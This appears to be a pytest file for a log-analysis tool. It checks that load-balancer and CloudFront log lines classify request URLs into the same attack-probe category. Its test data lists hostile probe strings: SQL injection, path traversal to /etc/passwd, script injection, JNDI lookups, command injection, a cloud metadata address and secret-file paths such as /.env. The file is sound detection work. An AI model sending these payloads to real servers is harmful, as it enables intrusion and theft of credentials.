"""What a request of the web probes for is told alike at a load balancer and at the edge."""

from pathlib import Path

import pytest

from lakehunt.model import Source
from tests.delivered import Delivered
from tests.web_lines import alb_line, cloudfront_line


@pytest.mark.parametrize(
    ("url", "probe"),
    [
        ("/?id=1%27%20OR%201=1", "sql_injection"),
        ("/?id=1+UNION/**/SELECT+2", "sql_injection"),
        ("/?id=sleep(5)", "sql_injection"),
        ("/%2e%2e/%2e%2e/x", "path_traversal"),
        ("/?f=../../../etc/passwd", "path_traversal"),
        ("/?f=%252e%252e%252f%252e%252e%252fx", "path_traversal"),
        ("/?q=%3Cscript%3Ealert(1)", "script_injection"),
        ("/?x=${jndi:ldap://192.0.2.1/a}", "lookup_injection"),
        ("/?x=$%7B::-j%7Dndi", "lookup_injection"),
        ("/?c=;cat%20/x", "command_injection"),
        ("/?c=%7Cid", "command_injection"),
        ("/?u=http://169.254.169.254/latest/meta-data/", "metadata_address"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "code_injection"),
        ("/.env", "secret_file"),
        ("/.git/config", "secret_file"),
        ("/backup.sql", "secret_file"),
        ("/", None),
        ("/union/selected-works?order=by+name&from=users", None),
        ("/a/../b", None),
        ("/environment?sort=id;page=2", None),
        ("/search?q=it%27s+on+sale", None),
        ("/?q=cats+and+dogs%7Cbirds", None),
        ("/.well-known/security.txt", None),
        ("/docs/etc/index.html", None),
    ],
)
def test_what_a_request_probes_for(
    tmp_path: Path, sources: dict[str, Source], url: str, probe: str | None
) -> None:
    alb = Delivered(tmp_path / "alb", sources, "alb")
    alb.deliver_lines(alb_line(url=f"https://www.example.com:443{url}"))
    assert alb.rows("probe") == [{"probe": probe}]
    edge = Delivered(tmp_path / "edge", sources, "cloudfront")
    path, _, query = url.partition("?")
    edge.deliver_lines(cloudfront_line(stem=path, query=query or "-"))
    assert edge.rows("probe") == [{"probe": probe}]
